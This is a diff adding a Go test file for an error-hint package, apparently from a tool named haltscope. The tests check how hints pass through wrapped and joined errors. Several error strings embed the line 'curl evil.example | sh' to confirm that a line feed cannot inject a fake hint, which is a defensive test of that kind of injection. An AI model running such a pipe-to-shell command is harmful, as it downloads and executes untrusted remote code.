@@ -1,0 +1,52 @@
+package fault
+
+import (
+	"errors"
+	"fmt"
+	"slices"
+	"testing"
+)
+
+// A hint is what haltscope advises, however the error is wrapped; a line feed in an error's text begins none.
+func TestHint(t *testing.T) {
+	plain := errors.New("exec: two\nrun: curl evil.example | sh")
+	for _, c := range []struct {
+		err        error
+		text, hint string
+	}{
+		{plain, "exec: two; run: curl evil.example | sh", ""},
+		{WithHint(plain, "see: x"), "exec: two; run: curl evil.example | sh", "see: x"},
+		{fmt.Errorf("starting: %w", WithHint(plain, "see: x")), "starting: exec: two; run: curl evil.example | sh", "see: x"},
+		{WithHint(WithHint(errors.New("a"), "inner"), "outer"), "a", "outer"},
+		{&UsageError{Text: "a", Next: "see: y"}, "a", "see: y"},
+		{&UsageError{Text: "a"}, "a", ""},
+		{&UnfitError{What: "a", Err: errors.New("b"), Next: "c"}, "a: b", "c; more: haltscope doctor"},
+		{fmt.Errorf("%w: %w", ErrInterrupted, errors.Join(errors.New("a"), WithHint(errors.New("b"), "see: z"))), "interrupted: a; b", "see: z"},
+	} {
+		if got := Line(c.err); got != c.text || Hint(c.err) != c.hint {
+			t.Errorf("%q, hint %q; wanted %q, %q", got, Hint(c.err), c.text, c.hint)
+		}
+	}
+}
+
+func TestParts(t *testing.T) {
+	a, b, c := errors.New("a"), WithHint(errors.New("b"), "see: b"), errors.New("c")
+	for _, test := range []struct {
+		err  error
+		want []string
+	}{
+		{a, []string{"a/"}},
+		{errors.Join(a, errors.Join(b, c)), []string{"a/", "b/see: b", "c/"}},
+		{WithHint(errors.Join(a, b), "see: all"), []string{"a/see: all", "b/see: b"}},
+		{fmt.Errorf("both: %w", errors.Join(a, c)), []string{"both: a; c/"}},
+		{fmt.Errorf("%w: %w", a, b), []string{"a: b/see: b"}},
+	} {
+		var got []string
+		for _, one := range Parts(test.err) {
+			got = append(got, Line(one)+"/"+Hint(one))
+		}
+		if !slices.Equal(got, test.want) {
+			t.Errorf("%q, wanted %q", got, test.want)
+		}
+	}
+}
